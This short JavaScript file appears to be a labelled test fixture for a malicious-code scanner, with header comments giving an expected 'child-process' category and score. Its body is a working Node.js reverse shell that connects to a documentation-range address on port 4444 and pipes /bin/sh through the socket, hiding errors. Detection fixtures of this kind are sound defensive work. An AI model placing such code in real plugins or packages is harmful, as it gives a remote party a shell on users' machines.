// expect: category=child-process min=95 context=plugin,package
// why: a TCP socket to a documentation-range address is wired to a shell's stdin and stdout.
const net = require('net');
const { spawn } = require('child_process');

const client = new net.Socket();
client.connect(4444, '203.0.113.9', () => {
  const sh = spawn('/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
client.on('error', () => {});
